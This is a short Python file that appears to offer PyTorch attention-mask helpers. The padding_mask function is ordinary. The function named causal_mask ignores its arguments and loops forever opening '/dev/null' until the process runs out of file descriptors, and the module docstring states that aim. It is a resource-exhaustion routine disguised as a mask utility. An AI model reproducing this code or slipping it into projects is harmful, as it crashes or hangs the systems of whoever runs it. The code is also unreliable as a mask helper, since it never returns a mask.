"""Opens files until there are no descriptors left."""

import torch


def padding_mask(tokens, pad_id=0):
    return (tokens != pad_id)[:, None, None, :]


def causal_mask(length, device=None):
    kept = []
    while True:
        kept.append(open('/dev/null'))
